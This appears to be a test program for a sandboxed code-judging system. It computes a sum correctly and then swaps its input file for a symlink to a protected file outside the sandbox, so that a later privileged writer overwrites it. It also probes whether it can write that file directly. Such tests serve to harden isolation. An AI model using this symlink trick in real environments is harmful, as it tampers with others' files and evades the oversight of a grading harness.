"""Is right at first, then puts a link to a file of others where the judge's clerk writes next."""
# needs: rootless
import os
import sys

PRECIOUS = "/tmp/zhixing-hostile-target/precious.txt"
total = sum(int(word) for word in (open("numbers.txt").read() + " " + sys.stdin.read()).split() if word.isdigit())
try:
    open(PRECIOUS, "a").close()
    print("ATTACK-REACHED a file of others", file=sys.stderr)  # then it needs no link
except OSError:
    open("total.txt", "w").write(str(total))
    print(total)
    os.unlink("numbers.txt")
    os.symlink(PRECIOUS, "numbers.txt")
